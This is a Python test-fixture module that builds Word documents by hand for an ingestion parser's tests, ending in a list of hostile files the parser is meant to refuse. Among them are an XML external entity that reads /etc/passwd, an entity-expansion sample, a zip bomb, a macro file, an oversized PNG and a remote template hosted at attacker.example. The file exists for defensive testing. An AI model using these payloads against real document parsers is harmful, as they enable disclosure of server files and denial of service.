"""Word documents made by hand: styles, lists, tables, notes, pictures, and hostile ones."""

import io
import struct
import zlib
from collections.abc import Mapping

from PIL import Image

from tests.ingest.files.samples import OFFICE, RELATIONSHIP, RELATIONSHIPS, docx, link, zipped

NAMES = (
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" '
    'xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math" '
    'xmlns:v="urn:schemas-microsoft-com:vml"'
)
STYLES = "".join(
    f'<w:style w:type="paragraph" w:styleId="{name.replace(" ", "")}"><w:name w:val="{name}"/></w:style>'
    for name in ("Title", "heading 1", "heading 2", "Caption", "List Paragraph", "Quote", "Văn bản riêng")
)
NUMBERING = (
    f'<w:numbering {NAMES}><w:abstractNum w:abstractNumId="0">'
    '<w:lvl w:ilvl="0"><w:numFmt w:val="bullet"/></w:lvl><w:lvl w:ilvl="1"><w:numFmt w:val="decimal"/></w:lvl>'
    '</w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>'
)


def run(text: str, properties: str = "") -> str:
    """Return a run of text."""
    return f'<w:r><w:rPr>{properties}</w:rPr><w:t xml:space="preserve">{text}</w:t></w:r>'


def p(text: str = "", style: str = "", content: str = "", properties: str = "", level: int | None = None) -> str:
    """Return a paragraph; `level` makes it an item of a list."""
    number = "" if level is None else f'<w:numPr><w:ilvl w:val="{level}"/><w:numId w:val="1"/></w:numPr>'
    named = f'<w:pStyle w:val="{style.replace(" ", "")}"/>' if style else ""
    return f"<w:p><w:pPr>{named}{number}</w:pPr>{run(text, properties) if text else ''}{content}</w:p>"


def bold(text: str) -> str:
    """Return a paragraph in bold."""
    return p(text, properties="<w:b/>")


def cell(text: str, properties: str = "") -> str:
    """Return a cell of a table."""
    return f"<w:tc><w:tcPr>{properties}</w:tcPr>{p(text)}</w:tc>"


def table(*rows: str) -> str:
    """Return a table of rows of cells."""
    return f"<w:tbl>{''.join(f'<w:tr>{row}</w:tr>' for row in rows)}</w:tbl>"


def drawing(relationship: str, alt: str = "Cổng chợ", attribute: str = "embed") -> str:
    """Return a picture in a run."""
    return (
        f'<w:r><w:drawing><wp:inline><wp:docPr id="1" name="x" descr="{alt}"/><a:graphic><a:graphicData><pic:pic>'
        f'<pic:blipFill><a:blip r:{attribute}="{relationship}"/></pic:blipFill></pic:pic></a:graphicData></a:graphic>'
        "</wp:inline></w:drawing></w:r>"
    )


def png(color: str = "red") -> bytes:
    """Return a small picture."""
    output = io.BytesIO()
    Image.new("RGB", (40, 20), color).save(output, "PNG")
    return output.getvalue()


def huge_png() -> bytes:
    """Return a picture that says that it has more pixels than may be decoded."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    header = struct.pack(">IIBBBBB", 90_000, 90_000, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")


def word(*body: str, pictures: Mapping[str, bytes] | None = None, links: str = "", **parts: str) -> bytes:
    """Return a document. Pictures are named by their relationship: `rImg1`."""
    pictures = pictures or {}
    types = "".join(
        f'<Default Extension="{one}" ContentType="image/{one}"/>' for one in ("png", "jpeg", "x-emf", "tiff")
    )
    main = f'<Override PartName="/word/document.xml" ContentType="{OFFICE}wordprocessingml.document.main+xml"/>'
    relations = links + "".join(
        f'<Relationship Id="{name}" Type="{RELATIONSHIP}image" Target="media/{name}.png"/>' for name in pictures
    )
    others = ("styles", "numbering", "footnotes", "comments")
    relations += "".join(
        f'<Relationship Id="r{name}" Type="{RELATIONSHIP}{name}" Target="{name}.xml"/>' for name in others
    )
    given = {
        "styles": f"<w:styles {NAMES}>{STYLES}</w:styles>",
        "numbering": NUMBERING,
        "footnotes": f"<w:footnotes {NAMES}/>",
        "comments": f"<w:comments {NAMES}/>",
        **parts,
    }
    namespace = "http://schemas.openxmlformats.org/package/2006/content-types"
    root = f'<Relationship Id="r1" Type="{RELATIONSHIP}officeDocument" Target="word/document.xml"/>'
    entries: dict[str, bytes | str] = {
        "[Content_Types].xml": f'<Types xmlns="{namespace}">{types}{main}</Types>',
        "_rels/.rels": RELATIONSHIPS.format(root),
        "word/document.xml": f"<w:document {NAMES}><w:body>{''.join(body)}</w:body></w:document>",
        "word/_rels/document.xml.rels": RELATIONSHIPS.format(relations),
        **{f"word/{name}.xml": content for name, content in given.items()},
        **{f"word/media/{name}.png": content for name, content in pictures.items()},
    }
    return zipped(entries)


def footnotes(*texts: str) -> str:
    """Return the footnotes of a document."""
    notes = "".join(f'<w:footnote w:id="{number}">{p(text)}</w:footnote>' for number, text in enumerate(texts, 1))
    return f"<w:footnotes {NAMES}>{notes}</w:footnotes>"


def nested_tables(depth: int) -> str:
    """Return tables in tables."""
    return "<w:tbl><w:tr><w:tc>" * depth + p("x") + "</w:tc></w:tr></w:tbl>" * depth


HOSTILE: dict[str, tuple[bytes, str]] = {
    "nothing": (b"", "not a Word document"),
    "text": (b"Nghi quyet", "not a Word document"),
    "an old document": (b"\xd0\xcf\x11\xe0" + bytes(100), "save it as .docx"),
    "a broken archive": (word(p("x"))[:500], "damaged"),
    "a plain archive": (zipped({"a.txt": b"x"}), "archive"),
    "macros": (docx({"word/vbaProject.bin": b"x"}), "macros"),
    "a bomb": (zipped({"word/document.xml": bytes(60_000_000)}), "packed more than"),
    "a template elsewhere": (word(p("x"), links=link("attachedTemplate", "https://attacker.example/a")), "elsewhere"),
    "an entity": (docx({"word/document.xml": '<!DOCTYPE d [<!ENTITY a "b">]><d>&a;</d>'}), "entities"),
    "a file of the server": (
        docx({"word/document.xml": '<!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd">]><d>&a;</d>'}),
        "entities",
    ),
    "many entities": (
        docx({"word/styles.xml": '<!DOCTYPE d [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><d>&b;</d>'}),
        "entities",
    ),
    "entities in relationships": (docx({"word/_rels/document.xml.rels": "<!DOCTYPE d><d/>"}), "document type"),
    "deep nesting": (word(nested_tables(200)), "nested"),
    "many elements": (word("<w:p/>" * 400_001), "elements"),
    "no XML": (docx({"word/document.xml": "no XML"}), "not XML"),
    "no text part": (zipped({"[Content_Types].xml": "wordprocessingml.document.main+xml"}), "damaged"),
    "no paragraphs": (word(), "has no text"),
    "a span that is no number": (word(table(cell("x", '<w:gridSpan w:val="x"/>'))), "damaged"),
    "a symbol that is no character": (word(p(content='<w:r><w:sym w:font="x" w:char="zz"/></w:r>')), "damaged"),
    "a link to nothing": (
        word(p(content='<w:hyperlink r:id="rNothing"><w:r><w:t>x</w:t></w:r></w:hyperlink>')),
        "damaged",
    ),
    "a note to nothing": (word(p("x", content='<w:r><w:footnoteReference w:id="77"/></w:r>')), "damaged"),
}
"""Documents that are refused as a whole, each with a part of the reason."""
